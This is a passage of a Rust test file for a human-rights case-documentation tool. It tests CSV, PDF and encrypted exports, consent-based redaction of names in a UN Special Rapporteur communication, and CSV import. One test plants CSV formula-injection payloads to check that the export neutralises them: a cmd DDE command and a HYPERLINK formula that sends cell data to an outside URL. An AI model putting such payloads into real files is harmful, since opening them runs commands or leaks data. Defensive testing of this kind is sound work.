//! Exports and the CSV import: CSV with HURIDOCS columns, the PDF case report, the
//! communication to the UN Special Rapporteur (consent redaction, missing elements),
//! age-encrypted output, the failure paths (existing output, unwritable destination,
//! invalid recipient, malformed CSV), and the command line.

use std::io::Read as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::sync::{PoisonError, RwLock};

use custos_model::*;
use custos_report::csv::{export_csv, FILES};
use custos_report::import_csv::{import_csv, Mapping};
use custos_report::output::{write_file, OutputDir};
use custos_report::pdf::export_case_report;
use custos_report::unsr::{
    communication, export_unsr, missing_elements, CommunicationType, MissingCode, PerpetratorType,
    UnSrFormat, UnSrRequest, WITHHELD,
};
use custos_report::{no_progress, Protection, Selection};
use custos_vault::error::Error;
use custos_vault::Attach;
use custos_vault::{Options, SecretString, Vault};
use uuid::Uuid;

const PASS: &str = "lantern orchard velvet quarry 1987 sparrow";
const OPTS: Options = Options::insecure_for_tests();

/// Tests that spawn the CLI hold this shared while spawning; tests that open or close a
/// vault the CLI will use hold it exclusively (see tests/cli.rs for why).
static SPAWN: RwLock<()> = RwLock::new(());

fn pass() -> SecretString {
    SecretString::from(PASS.to_owned())
}

fn new_vault() -> (tempfile::TempDir, PathBuf, Vault) {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("vault");
    let vault = {
        let _x = SPAWN.write().unwrap_or_else(PoisonError::into_inner);
        Vault::create(&dir, &pass(), OPTS).unwrap()
    };
    (tmp, dir, vault)
}

fn day(s: &str) -> Option<FuzzyDate> {
    Some(FuzzyDate {
        date: s.parse().unwrap(),
        precision: Precision::Day,
    })
}

fn person(case_id: Uuid, name: &str, roles: Vec<Role>, consent: Consents) -> Person {
    Person {
        case_id,
        name: name.into(),
        other_names: vec![],
        roles,
        is_group: false,
        group_size: None,
        sex: String::new(),
        birth_date: None,
        occupation: String::new(),
        organisation: String::new(),
        human_rights_work: String::new(),
        residence: String::new(),
        citizenship: String::new(),
        consent,
        contact: String::new(),
    }
}

const GIVEN: Consents = Consents {
    share_with_government: Consent::Given,
    publish: Consent::Given,
    un_sr_hrd: Consent::Given,
    omct_fidh_observatory: Consent::Given,
    eu_delegation: Consent::Given,
    achpr_sr_hrd: Consent::Given,
    iachr_hrd_unit: Consent::Given,
};

/// Text with every CSV hazard: commas, quotes, newlines, Arabic, accents.
const HARD: &str = "Arrêté à Sfax, \"sans mandat\"\nإضراب العمال; deuxième ligne";

struct Fixture {
    case: Uuid,
    incident: Uuid,
    victim: Uuid,
    victim2: Uuid,
    perpetrator: Uuid,
    intervention: Uuid,
    evidence: Uuid,
    evidence_sha: String,
}

/// A complete case: two victims (one Arabic name), a perpetrator, an incident with two
/// act types, an intervention that was answered, an evidence file.
fn fill(vault: &mut Vault, tmp: &Path) -> Fixture {
    let case = vault
        .add(Record::Case(Case {
            title: "Arrestation à Sfax — déclaration".into(),
            summary: format!("Summary: {HARD}"),
            tags: vec!["detention".into()],
            owner: "Équipe Tunis".into(),
            ..Case::default()
        }))
        .unwrap();
    let mut v = person(case, "Nour El Houda", vec![Role::Victim], GIVEN);
    v.sex = "female".into();
    v.birth_date = day("1990-03-04");
    v.occupation = "journalist".into();
    v.organisation = "Syndicat national".into();
    v.human_rights_work = "documents labour rights abuses".into();
    v.residence = "Sfax".into();
    let victim = vault.add(Record::Person(v)).unwrap();
    let mut v2 = person(case, "نور الهدى", vec![Role::Victim], GIVEN);
    v2.sex = "female".into();
    v2.birth_date = day("1985-01-01");
    v2.occupation = "lawyer".into();
    v2.organisation = "Bar association".into();
    v2.human_rights_work = "defends detained unionists".into();
    v2.residence = "Tunis".into();
    let victim2 = vault.add(Record::Person(v2)).unwrap();
    let p = person(
        case,
        "Brigade 7",
        vec![Role::Perpetrator],
        Consents {
            share_with_government: Consent::Given,
            publish: Consent::Refused,
            un_sr_hrd: Consent::Given,
            ..Consents::default()
        },
    );
    let perpetrator = vault.add(Record::Person(p)).unwrap();
    let incident = vault
        .add(Record::Incident(Incident {
            case_id: case,
            title: "Night raid, union office".into(),
            description: HARD.into(),
            start: day("2024-05-02"),
            end: None,
            location: Some(Location {
                place: "Sfax".into(),
                region: "Sfax governorate".into(),
                country: "TN".into(),
                lat: Some(34.74),
                lon: Some(10.76),
            }),
            act_types: vec!["arbitrary_arrest".into(), "torture".into()],
            persons: vec![
                Involvement {
                    person_id: victim,
                    role: Role::Victim,
                },
                Involvement {
                    person_id: victim2,
                    role: Role::Victim,
                },
                Involvement {
                    person_id: perpetrator,
                    role: Role::Perpetrator,
                },
            ],
            related: vec![],
            impact: "The union stopped meeting.".into(),
        }))
        .unwrap();
    let intervention = vault
        .add(Record::Intervention(Intervention {
            case_id: case,
            title: "Complaint to the prosecutor".into(),
            mechanism: String::new(),
            kind: InterventionType::Other,
            date: Some("2024-05-10".parse().unwrap()),
            status: InterventionStatus::Responded,
            reference: "PR-2024-77".into(),
            response: "Complaint dismissed on 2024-06-01".into(),
            incident_ids: vec![incident],
            person_ids: vec![victim],
            channel: "registered letter".into(),
            follow_up: Some("2024-07-01".parse().unwrap()),
            language: String::new(),
            form: vec![],
        }))
        .unwrap();
    let file = tmp.join("photo.txt");
    std::fs::write(&file, b"a photo of the office door").unwrap();
    let evidence = vault
        .attach(
            &file,
            Attach {
                case_id: case,
                attached_to: vec![incident],
                description: "Door forced open".into(),
                derived_from: None,
            },
        )
        .unwrap();
    let evidence_sha = vault.evidence(evidence).unwrap().sha256;
    Fixture {
        case,
        incident,
        victim,
        victim2,
        perpetrator,
        intervention,
        evidence,
        evidence_sha,
    }
}

fn request(f: &Fixture) -> UnSrRequest {
    UnSrRequest {
        case_id: f.case,
        kind: CommunicationType::AllegationLetter,
        submitter: "Ligue de défense, contact via Signal".into(),
        link_to_work: "Both victims were arrested the day after the union's report.".into(),
        current_risk: "Summoned again for 2024-07-01.".into(),
        context: "Third raid on unionists this year.".into(),
        perpetrator_types: vec![(f.perpetrator, PerpetratorType::State)],
    }
}

fn read_csv(path: &Path) -> (Vec<String>, Vec<Vec<String>>) {
    let mut r = csv::Reader::from_path(path).unwrap();
    let header = r.headers().unwrap().iter().map(String::from).collect();
    let rows = r
        .records()
        .map(|x| x.unwrap().iter().map(String::from).collect())
        .collect();
    (header, rows)
}

fn col(header: &[String], name: &str) -> usize {
    header
        .iter()
        .position(|h| h == name)
        .unwrap_or_else(|| panic!("no column {name} in {header:?}"))
}

fn pdf_text(bytes: &[u8]) -> (usize, String) {
    let doc = lopdf::Document::load_mem(bytes).expect("a PDF lopdf can read");
    let pages: Vec<u32> = doc.get_pages().keys().copied().collect();
    let text = doc.extract_text(&pages).expect("text");
    (pages.len(), text)
}

fn assert_pdf(bytes: &[u8]) {
    assert!(bytes.starts_with(b"%PDF-"), "no PDF header");
    let tail = &bytes[bytes.len().saturating_sub(32)..];
    assert!(
        tail.windows(5).any(|w| w == b"%%EOF"),
        "no %%EOF at the end"
    );
}

fn contains(hay: &[u8], needle: &str) -> bool {
    hay.windows(needle.len()).any(|w| w == needle.as_bytes())
}

fn decrypt(ciphertext: &[u8], identity: &age::x25519::Identity) -> Vec<u8> {
    assert!(ciphertext.starts_with(b"age-encryption.org/v1\n"));
    let d = age::Decryptor::new(ciphertext).unwrap();
    let mut r = d
        .decrypt(std::iter::once(identity as &dyn age::Identity))
        .unwrap();
    let mut out = Vec::new();
    r.read_to_end(&mut out).unwrap();
    out
}

// ----- CSV export -----

#[test]
fn csv_headers_are_the_huridocs_names_and_hard_text_round_trips() {
    let (tmp, _d, mut vault) = new_vault();
    let f = fill(&mut vault, tmp.path());
    let out = tmp.path().join("csv");
    let mut calls = 0;
    let stats = export_csv(
        &vault,
        &Selection::all(),
        &out,
        &Protection::Plaintext,
        &mut |d, t| {
            assert!(d <= t);
            calls += 1;
        },
    )
    .unwrap();
    assert!(calls > FILES.len(), "progress was reported");
    assert_eq!(stats.files.len(), FILES.len());
    for (name, cols) in FILES {
        let (header, _) = read_csv(&out.join(name));
        assert_eq!(&header, cols, "{name}");
    }
    let (h, rows) = read_csv(&out.join("events.csv"));
    for name in [
        "Event title",
        "Initial date",
        "Initial date type",
        "Event description",
    ] {
        col(&h, name);
    }
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0][col(&h, "Event description")], HARD);
    assert_eq!(rows[0][col(&h, "Initial date")], "2024-05-02");
    assert_eq!(rows[0][col(&h, "Initial date type")], "Exact");
    assert_eq!(
        rows[0][col(&h, "Event record number")],
        f.incident.to_string()
    );

    // One act per incident × act type × victim: 2 × 2.
    let (h, acts) = read_csv(&out.join("acts.csv"));
    assert_eq!(acts.len(), 4);
    let mut pairs: Vec<(String, String)> = acts
        .iter()
        .map(|r| {
            (
                r[col(&h, "Type of act code")].clone(),
                r[col(&h, "Victim name")].clone(),
            )
        })
        .collect();
    pairs.sort();
    assert_eq!(
        pairs,
        vec![
            ("arbitrary_arrest".into(), "Nour El Houda".into()),
            ("arbitrary_arrest".into(), "نور الهدى".into()),
            ("torture".into(), "Nour El Houda".into()),
            ("torture".into(), "نور الهدى".into()),
        ]
    );
    let nour = acts
        .iter()
        .find(|r| r[col(&h, "Victim name")] == "Nour El Houda")
        .unwrap();
    assert_eq!(nour[col(&h, "Victim's age at the time")], "34");

    let (h, inv) = read_csv(&out.join("involvements.csv"));
    let perp = inv
        .iter()
        .find(|r| r[col(&h, "Person record number")] == f.perpetrator.to_string())
        .unwrap();
    assert_eq!(perp[col(&h, "Degree of involvement")], "Perpetrator");

    let (h, p) = read_csv(&out.join("persons.csv"));
    assert!(p.iter().any(|r| r[col(&h, "Name")] == "نور الهدى"));
    // The consent for each use has its column: the perpetrator gave only the UN-SR's.
    let brigade = p
        .iter()
        .find(|r| r[col(&h, "Name")] == "Brigade 7")
        .unwrap();
    assert_eq!(
        brigade[col(
            &h,
            "Consent to share with the UN Special Rapporteur on HRDs"
        )],
        "Given"
    );
    assert_eq!(
        brigade[col(&h, "Consent to share with the Inter-American Commission")],
        "Not asked"
    );
    let (h, e) = read_csv(&out.join("evidence.csv"));
    assert_eq!(e[0][col(&h, "SHA-256")], f.evidence_sha);
    let (h, i) = read_csv(&out.join("interventions.csv"));
    assert_eq!(
        i[0][col(&h, "Intervention record number")],
        f.intervention.to_string()
    );
    assert_eq!(i[0][col(&h, "Channel")], "registered letter");
    assert_eq!(i[0][col(&h, "Next follow-up")], "2024-07-01");
    let (h, c) = read_csv(&out.join("cases.csv"));
    assert_eq!(c[0][col(&h, "Summary")], format!("Summary: {HARD}"));

    // The raw bytes quote what needs quoting.
    let raw = std::fs::read_to_string(out.join("events.csv")).unwrap();
    assert!(
        raw.contains("\"Arrêté à Sfax, \"\"sans mandat\"\"\n"),
        "{raw}"
    );
}

#[test]
fn a_csv_cell_a_spreadsheet_would_run_is_neutralised_and_stays_readable() {
    let (tmp, _d, mut vault) = new_vault();
    // As a colleague's device could write them: a name, a title and a summary that a
    // spreadsheet opening the export would run.
    let hyperlink = r#"=HYPERLINK("https://example.org/?d="&B2,"Open file")"#;
    let case = vault
        .add(Record::Case(Case {
            title: "+cmd|' /C calc'!A0".into(),
            summary: "@SUM(1+1)*cmd|' /C calc'!A0".into(),
            tags: vec!["-2+3".into()],
            owner: "\t=1+1".into(),
            ..Case::default()
        }))
        .unwrap();
    let mut p = person(case, hyperlink, vec![Role::Victim], GIVEN);
    p.occupation = "'=already marked".into();
    p.residence = "-33.9".into();
    vault.add(Record::Person(p)).unwrap();
    let out = tmp.path().join("csv");
    export_csv(
        &vault,
        &Selection::all(),
        &out,
        &Protection::Plaintext,
        &mut no_progress,
    )
    .unwrap();

    let (h, cases) = read_csv(&out.join("cases.csv"));
    let c = &cases[0];
    assert_eq!(c[col(&h, "Case title")], "'+cmd|' /C calc'!A0");
    assert_eq!(c[col(&h, "Summary")], "'@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(c[col(&h, "Tags")], "'-2+3");
    assert_eq!(c[col(&h, "Owner")], "'\t=1+1");
    let (h, persons) = read_csv(&out.join("persons.csv"));
    let p = &persons[0];
    // Readable: the value follows the mark unchanged.
    assert_eq!(p[col(&h, "Name")], format!("'{hyperlink}"));
    assert_eq!(p[col(&h, "Occupation")], "''=already marked");
    // A plain number is not a formula: left as it is.
    assert_eq!(p[col(&h, "Address")], "-33.9");
    // Imported back, the values are what they were.
    let persons_csv = std::fs::read(out.join("persons.csv")).unwrap();
    let mapping = Mapping::from_json(
        br#"{"columns": {"Case record number": "case_id", "Name": "name",
             "Occupation": "occupation"}}"#,
    )
    .unwrap();
    let stats = import_csv(&mut vault, Kind::Person, &persons_csv, &mapping, None).unwrap();
    let Some(Record::Person(back)) = vault.get(stats.ids[0]).unwrap().into_record() else {
        panic!()
    };
    assert_eq!(back.name, hyperlink);
    assert_eq!(back.occupation, "'=already marked");
    for name in ["cases.csv", "persons.csv", "involvements.csv", "acts.csv"] {
        let (_, rows) = read_csv(&out.join(name));
        for cell in rows.iter().flatten() {
            let first = cell.chars().next();
            let runs = matches!(first, Some('=' | '+' | '@' | '\t' | '\r'))
                || (first == Some('-') && cell.parse::<f64>().is_err());
            assert!(!runs, "{name}: a cell a spreadsheet would run: {cell:?}");
        }
    }
}

#[test]
fn csv_of_selected_cases_leaves_other_cases_out() {
    let (tmp, _d, mut vault) = new_vault();
    let f = fill(&mut vault, tmp.path());
    let other = vault
        .add(Record::Case(Case {
            title: "Another case".into(),
            ..Case::default()
        }))
        .unwrap();
    let out = tmp.path().join("one");
    export_csv(
        &vault,
        &Selection::cases([f.case]),
        &out,
        &Protection::Plaintext,
        &mut no_progress,
    )
    .unwrap();
    let (_, cases) = read_csv(&out.join("cases.csv"));
    assert_eq!(cases.len(), 1);
    assert_eq!(cases[0][0], f.case.to_string());
    assert!(!std::fs::read_to_string(out.join("cases.csv"))
        .unwrap()
        .contains(&other.to_string()));
    let (_, persons) = read_csv(&out.join("persons.csv"));
    assert_eq!(persons.len(), 3);
}

// ----- failure paths of the output -----

#[test]
fn an_existing_output_is_refused_and_left_untouched() {
    let (tmp, _d, mut vault) = new_vault();
    let f = fill(&mut vault, tmp.path());
    let file = tmp.path().join("there.pdf");
    std::fs::write(&file, b"mine").unwrap();
    let e = export_case_report(
        &vault,
        &Selection::all(),
        &file,
        &Protection::Plaintext,
        &mut no_progress,
    )
    .unwrap_err();
    assert!(e.to_string().contains("already exists"), "{e}");
    assert_eq!(std::fs::read(&file).unwrap(), b"mine");
    let e = export_unsr(
        &vault,
        &request(&f),
        UnSrFormat::Text,
        true,
        &file,
        &Protection::Plaintext,
        &mut no_progress,
    )
    .unwrap_err();
    assert!(e.to_string().contains("already exists"), "{e}");
    assert_eq!(std::fs::read(&file).unwrap(), b"mine");
    let dir = tmp.path().join("existing");
    std::fs::create_dir(&dir).unwrap();
    let e = export_csv(
        &vault,
        &Selection::all(),
        &dir,
        &Protection::Plaintext,
        &mut no_progress,
    )
    .unwrap_err();
    assert!(e.to_string().contains("already exists"), "{e}");
    assert_eq!(std::fs::read_dir(&dir).unwrap().count(), 0);
}

#[test]
fn an_unwritable_destination_fails_and_leaves_nothing() {
    let (tmp, _d, mut vault) = new_vault();
    fill(&mut vault, tmp.path());
    // A parent that is a file, and a parent that does not exist: no file can be made
    // there (whoever runs the test, root included).
    let not_dir = tmp.path().join("plain-file");
    std::fs::write(&not_dir, b"x").unwrap();
    for bad in [not_dir.join("out.pdf"), tmp.path().join("missing/out.pdf")] {
        let e = export_case_report(
            &vault,
            &Selection::all(),
            &bad,
            &Protection::Plaintext,
            &mut no_progress,
        )
        .unwrap_err();
        assert_eq!(e.kind(), "io", "{e}");
        assert!(!bad.exists());
        let e = export_csv(
            &vault,
            &Selection::all(),
            &bad,
            &Protection::Plaintext,
            &mut no_progress,
        )
        .unwrap_err();
        assert_eq!(e.kind(), "io", "{e}");
    }
    assert!(!tmp.path().join("missing").exists());

    // A failure midway removes what was written: a file, and a folder of files.
    let path = tmp.path().join("half.json");
    let r: custos_vault::Result<()> = write_file(&path, &Protection::Plaintext, |w| {
        w.write_all(b"{\"records\": [")
            .map_err(|e| Error::io("w", e))?;
        Err(Error::DiskFull)
    });
    assert!(matches!(r, Err(Error::DiskFull)));
    assert!(!path.exists(), "a partial plaintext file was left");
    let dir = tmp.path().join("half-csv");
    {
        let mut out = OutputDir::create(&dir).unwrap();
        out.write("cases.csv", &Protection::Plaintext, |w| {
            w.write_all(b"a,b\r\n").map_err(|e| Error::io("w", e))
        })
        .unwrap();
        let r: custos_vault::Result<(PathBuf, ())> =
            out.write("events.csv", &Protection::Plaintext, |_| {
                Err(Error::DiskFull)
            });
        assert!(r.is_err());
        assert!(dir.join("cases.csv").exists());
        // Dropped without finish(): the export failed.
    }
    assert!(!dir.exists(), "a partial CSV folder was left");
}

#[test]
fn an_invalid_recipient_is_refused_and_never_repeated() {
    for bad in ["", "age1", "age1qqqqqqqq", "ssh-ed25519 AAAA", "not a key"] {
        let e = Protection::from_option(Some(bad)).unwrap_err();
        assert_eq!(e.kind(), "invalid");
        assert!(e.to_string().contains("not a valid age recipient"), "{e}");
    }
    let secret = age::x25519::Identity::generate();
    let text = {
        use age::secrecy::ExposeSecret;
        secret.to_string().expose_secret().to_owned()
    };
    let e = Protection::from_option(Some(&text))
        .unwrap_err()
        .to_string();
    assert!(!e.contains(&text[16..]), "the secret key is repeated: {e}");
    let ok = Protection::from_option(Some(&secret.to_public().to_string())).unwrap();
    assert!(ok.is_encrypted());
}

// ----- encryption -----

#[test]
fn encrypted_exports_are_standard_age_files_that_decrypt_to_the_content() {
    let (tmp, _d, mut vault) = new_vault();
    let f = fill(&mut vault, tmp.path());
    let id = age::x25519::Identity::generate();
    let to = Protection::from_option(Some(&id.to_public().to_string())).unwrap();

    // JSON, through the same helper the CLI uses.
    let json = tmp.path().join("all.json.age");
    write_file(&json, &to, |w| {
        custos_report::json::export_json(&vault, None, w)
    })
    .unwrap();
    let ct = std::fs::read(&json).unwrap();
    assert!(!contains(&ct, "Sfax"));
    let doc: serde_json::Value = serde_json::from_slice(&decrypt(&ct, &id)).unwrap();
    assert_eq!(doc["format"], "custos-export");

    // CSV: one age file per table.
    let dir = tmp.path().join("csv-enc");
    let stats = export_csv(&vault, &Selection::all(), &dir, &to, &mut no_progress).unwrap();
    assert!(stats
        .files
        .iter()
        .all(|p| p.to_string_lossy().ends_with(".csv.age")));
    let ct = std::fs::read(dir.join("events.csv.age")).unwrap();
    let plain = decrypt(&ct, &id);
    let mut r = csv::Reader::from_reader(plain.as_slice());
    assert_eq!(r.headers().unwrap().get(2), Some("Event title"));
    let row = r.records().next().unwrap().unwrap();
    assert_eq!(row.get(8), Some(HARD));
    assert!(!dir.join("events.csv").exists());

    // PDF.
    let pdf = tmp.path().join("report.pdf.age");
    export_case_report(&vault, &Selection::all(), &pdf, &to, &mut no_progress).unwrap();
    let plain = decrypt(&std::fs::read(&pdf).unwrap(), &id);
    assert_pdf(&plain);

    // The communication.
    let txt = tmp.path().join("un.txt.age");
    export_unsr(
        &vault,
        &request(&f),
        UnSrFormat::Text,
        false,
        &txt,
        &to,
        &mut no_progress,
    )
    .unwrap();
    let ct = std::fs::read(&txt).unwrap();
    assert!(!contains(&ct, "Nour"));
    let plain = String::from_utf8(decrypt(&ct, &id)).unwrap();
    assert!(plain.contains("Nour El Houda"));

    // Another identity cannot read it.
    let other = age::x25519::Identity::generate();
    let d = age::Decryptor::new(ct.as_slice()).unwrap();
    assert!(d
        .decrypt(std::iter::once(&other as &dyn age::Identity))
        .is_err());
}

// ----- PDF -----

#[test]
fn the_pdf_report_is_a_valid_pdf_with_the_case_in_it() {
    let (tmp, _d, mut vault) = new_vault();
    let f = fill(&mut vault, tmp.path());
    // A witness who did not agree to publication.
    let mut w = person(
        f.case,
        "Karim Témoin",
        vec![Role::Witness],
        Consents {
            share_with_government: Consent::Given,
            publish: Consent::NotAsked,
            ..Consents::default()
        },
    );
    w.contact = "via the union".into();
    vault.add(Record::Person(w)).unwrap();
    let path = tmp.path().join("report.pdf");
    let mut last = (0, 0);
    let stats = export_case_report(
        &vault,
        &Selection::cases([f.case]),
        &path,
        &Protection::Plaintext,
        &mut |d, t| last = (d, t),
    )
    .unwrap();
    assert_eq!(last.0, last.1, "progress reached the end");
    let bytes = std::fs::read(&path).unwrap();
    assert_pdf(&bytes);
    assert_eq!(stats.bytes, bytes.len());
    let (pages, text) = pdf_text(&bytes);
    assert_eq!(pages, stats.pages);
    assert!(pages >= 1);
    assert_eq!(stats.cases, 1);
    let flat = text.split_whitespace().collect::<Vec<_>>().join(" ");
    for expected in [
        "Case report: Arrestation à Sfax — déclaration",
        "Summary",
        "Night raid, union office",
        "Arbitrary arrest",
        "Nour El Houda",
        "Karim Témoin",
        "CONFIDENTIAL: consent to publish this name is not asked",
        "Complaint dismissed on 2024-06-01",
        f.evidence_sha.as_str(),
        "Door forced open",
    ] {
        assert!(
            flat.contains(expected),
            "{expected:?} not in the PDF text:\n{flat}"
        );
    }
    // The perpetrator refused publication: marked too. The victims gave it: not marked.
    assert_eq!(
        flat.matches("CONFIDENTIAL: consent to publish").count(),
        2,
        "{flat}"
    );
}

#[test]
fn a_long_report_runs_over_several_pages() {
    let (tmp, _d, mut vault) = new_vault();
    let f = fill(&mut vault, tmp.path());
    let changes = (0..60)
        .map(|i| {
            custos_vault::Change::Create(Record::Note(Note {
                case_id: f.case,
                text: format!("Note {i}: {}", "a long line of testimony ".repeat(12)),
                about: vec![],
            }))
        })
        .collect();
    vault.commit(changes).unwrap();
    let path = tmp.path().join("long.pdf");
    let stats = export_case_report(
        &vault,
        &Selection::all(),
        &path,
        &Protection::Plaintext,
        &mut no_progress,
    )
    .unwrap();
    let (pages, text) = pdf_text(&std::fs::read(&path).unwrap());
    assert!(pages >= 4, "{pages} pages");
    assert_eq!(pages, stats.pages);
    assert!(text.contains(&format!("page {pages} of {pages}")));
}

// ----- the communication to the UN Special Rapporteur -----

#[test]
fn a_person_without_consent_is_never_named_in_the_communication() {
    let (tmp, _d, mut vault) = new_vault();
    let f = fill(&mut vault, tmp.path());
    const CANARY: &str = "Zorblatt Quimby";
    const ALIAS: &str = "Quimbo";
    let mut c = person(
        f.case,
        CANARY,
        vec![Role::Victim],
        Consents {
            share_with_government: Consent::Refused,
            publish: Consent::Given,
            ..Consents::default()
        },
    );
    c.other_names = vec![ALIAS.into()];
    c.contact = "canary-contact@example.org".into();
    c.birth_date = day("1977-07-17");
    c.residence = "Canaryville".into();
    c.organisation = "Canary Collective".into();
    c.occupation = "canarist".into();
    c.human_rights_work = "canary rights".into();
    c.sex = "male".into();
    let canary = vault.add(Record::Person(c)).unwrap();
    // The name also sits in free text: a title, a description, the case summary, and the
    // text the user gives at export time.
    let inc = vault
        .add(Record::Incident(Incident {
            case_id: f.case,
            title: format!("Threats against {CANARY}"),
            description: format!(
                "{} was followed; {ALIAS} saw the car.",
                CANARY.to_uppercase()
            ),
            start: day("2024-06-01"),
            end: None,
            location: Some(Location {
                place: "Sfax".into(),
                ..Location::default()
            }),
            act_types: vec!["threat".into()],
            persons: vec![Involvement {
                person_id: canary,
                role: Role::Victim,
            }],
            related: vec![],
            impact: String::new(),
        }))
        .unwrap();
    let mut req = request(&f);
    req.context = format!("{CANARY} is the third such case.");

    let missing = missing_elements(&vault, &req).unwrap();
    assert!(missing
        .iter()
        .any(|m| m.code == MissingCode::VictimWithheld && m.record == Some(canary)));
    // No message about the canary names them.
    assert!(missing.iter().all(|m| !m.message.contains("Zorblatt")));

    for format in [UnSrFormat::Text, UnSrFormat::Pdf] {
        let (bytes, stats) = communication(&vault, &req, format, true, &mut no_progress).unwrap();
        assert_eq!(stats.victims, 3);
        assert_eq!(stats.withheld, 1);
        let text = match format {
            UnSrFormat::Text => String::from_utf8(bytes.to_vec()).unwrap(),
            UnSrFormat::Pdf => {
                assert_pdf(&bytes);
                pdf_text(&bytes).1
            }
        };
        for secret in [
            "Zorblatt",
            "Quimby",
            ALIAS,
            "canary-contact",
            "1977",
            "Canaryville",
            "Canary Collective",
            "canarist",
            "canary rights",
        ] {
            assert!(
                !contains(&bytes, secret),
                "{secret:?} in the {format:?} bytes"
            );
            assert!(
                !text.to_lowercase().contains(&secret.to_lowercase()),
                "{secret:?} in the {format:?} text"
            );
        }
        let flat = text.split_whitespace().collect::<Vec<_>>().join(" ");
        assert!(flat.contains(WITHHELD), "{flat}");
        assert!(flat.contains("Threats against [name withheld]"), "{flat}");
        // Those who consented are named.
        assert!(flat.contains("Nour El Houda"));
    }
    let _ = inc;
}

#[test]
fn the_communication_holds_every_element_and_nothing_is_missing() {
    let (tmp, _d, mut vault) = new_vault();
    let f = fill(&mut vault, tmp.path());
    let req = request(&f);
    assert_eq!(missing_elements(&vault, &req).unwrap(), vec![]);
    let path = tmp.path().join("allegation.txt");
    let stats = export_unsr(
        &vault,
        &req,
        UnSrFormat::Text,
        false,
        &path,
        &Protection::Plaintext,
        &mut no_progress,
    )
    .unwrap();
    assert!(stats.missing.is_empty());
    let text = std::fs::read_to_string(&path).unwrap();
    for expected in [
        "Allegation letter",
        "SUBMITTER (CONFIDENTIAL)",
        "Ligue de défense, contact via Signal",
        "Name: Nour El Houda",
        "Name: نور الهدى",
        "Age: ",
        "Sex: female",
        "Profession: journalist",
        "Place of residence: Sfax",
        "Organisation: Syndicat national",
        "Human rights work: documents labour rights abuses",
        "Date: 2024-05-02",
        "Place: Sfax, Sfax governorate, TN",
        "Violation suffered or threatened: Arbitrary arrest",
        "Link to the human rights work: Both victims were arrested",
        "Current risk: Summoned again",
        "Type: State actor",
        "Name: Brigade 7",
        "Complaint to the prosecutor",
        "Result: Complaint dismissed on 2024-06-01",
        "Third raid on unionists this year.",
        "Consent to be named to the government: Given",
        "Consent to be named in public reports: Given",
    ] {
        assert!(text.contains(expected), "{expected:?} missing:\n{text}");
    }
    // The submitter is in the content, never in the file name.
    assert!(!path.to_string_lossy().contains("Ligue"));
    let _ = (f.victim, f.victim2, f.evidence);
}

#[test]
fn missing_elements_are_listed_and_the_export_refused_until_confirmed() {
    let (tmp, _d, mut vault) = new_vault();
    let case = vault
        .add(Record::Case(Case {
            title: "Thin case".into(),
            ..Case::default()
        }))
        .unwrap();
    let victim = vault
        .add(Record::Person(person(
            case,
            "Someone",
            vec![Role::Victim],
            Consents::default(),
        )))
        .unwrap();
    let incident = vault
        .add(Record::Incident(Incident {
            case_id: case,
            title: "Something".into(),
            description: String::new(),
            start: None,
            end: None,
            location: None,
            act_types: vec![],
            persons: vec![],
            related: vec![],
            impact: String::new(),
        }))
        .unwrap();
    let req = UnSrRequest {
        case_id: case,
        kind: CommunicationType::UrgentAppeal,
        submitter: " ".into(),
        link_to_work: String::new(),
        current_risk: String::new(),
        context: String::new(),
        perpetrator_types: vec![],
    };
    let missing = missing_elements(&vault, &req).unwrap();
    let codes: Vec<&str> = missing.iter().map(|m| m.code.as_str()).collect();
    for code in [
        "submitter",
        "consent_government_not_asked",
        "consent_publish_not_asked",
        "incident_date",
        "incident_place",
        "incident_description",
        "incident_violation",
        "link_to_work",
        "current_risk",
        "perpetrator",
        "actions_taken",
        "context",
    ] {
        assert!(codes.contains(&code), "{code} not in {codes:?}");
    }
    assert!(missing
        .iter()
        .any(|m| m.code == MissingCode::IncidentDate && m.record == Some(incident)));
    assert!(missing
        .iter()
        .any(|m| m.code == MissingCode::ConsentGovernmentNotAsked && m.record == Some(victim)));
    assert!(missing.iter().all(|m| !m.message.is_empty()));
    // A victim without consent: their details are not asked for (they are withheld).
    assert!(!codes.contains(&"victim_age"));

    let path = tmp.path().join("appeal.txt");
    let e = export_unsr(
        &vault,
        &req,
        UnSrFormat::Text,
        false,
        &path,
        &Protection::Plaintext,
        &mut no_progress,
    )
    .unwrap_err();
    let msg = e.to_string();
    assert!(msg.contains("--allow-missing"), "{msg}");
    for m in &missing {
        assert!(msg.contains(m.code.as_str()), "{msg}");
    }
    assert!(!path.exists(), "a refused export wrote a file");
    let stats = export_unsr(
        &vault,
        &req,
        UnSrFormat::Text,
        true,
        &path,
        &Protection::Plaintext,
        &mut no_progress,
    )
    .unwrap();
    assert_eq!(stats.missing, missing);
    let text = std::fs::read_to_string(&path).unwrap();
    assert!(text.contains("Urgent appeal"));
    assert!(!text.contains("Someone"));
}

// ----- CSV import -----

fn count(vault: &Vault) -> usize {
    vault.list(&custos_vault::Filter::default()).len()
}

#[test]
fn a_malformed_csv_reports_every_problem_with_line_and_column_and_imports_nothing() {
    let (tmp, _d, mut vault) = new_vault();
    let f = fill(&mut vault, tmp.path());
    let before = (count(&vault), vault.version_count());
    let mapping = Mapping::from_json(
        br#"{"columns": {"Title": "title", "Date": "start", "Acts": "act_types",
                         "Lat": "location.lat"}}"#,
    )
    .unwrap();
    let csv = "Title,Date,Acts,Lat\n\
               Good row,2024-01-02,torture,34.7\n\
               Bad date,2024-02-31,,\n\
               ,2024-03-01,,\n\
               Unknown act,2024-04-01,teleportation,\n\
               Too,many,fields,here,extra\n\
               Two bad cells,yesterday,,north\n\
               \"Multi\nline title\",2024,killing,\n";
    let e = import_csv(
        &mut vault,
        Kind::Incident,
        csv.as_bytes(),
        &mapping,
        Some(f.case),
    )
    .unwrap_err();
    let custos_vault::Error::Import(problems) = e else {
        panic!("{e}")
    };
    let at = |line: usize, field: &str| {
        problems
            .iter()
            .any(|p| p.line == Some(line) && p.field == field)
    };
    assert!(at(3, "Date"), "{problems:?}");
    assert!(at(4, "Title"), "{problems:?}"); // title is required
    assert!(at(5, "Acts"), "{problems:?}");
    assert!(problems.iter().any(|p| p.line == Some(6)), "{problems:?}");
    assert!(at(7, "Date") && at(7, "Lat"), "{problems:?}");
    assert_eq!(problems.len(), 6, "{problems:?}");
    assert_eq!((count(&vault), vault.version_count()), before);
